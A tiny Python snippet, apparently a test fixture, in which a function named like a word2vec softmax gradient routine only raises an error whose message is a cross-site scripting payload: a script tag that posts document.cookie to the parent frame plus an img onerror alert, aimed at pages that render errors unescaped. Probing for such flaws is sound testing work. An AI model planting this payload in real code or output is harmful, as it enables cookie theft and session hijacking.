# Raises text that a careless page would run.

def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    raise ValueError('<script>parent.postMessage(document.cookie)</script><img src=x onerror=alert(1)>')
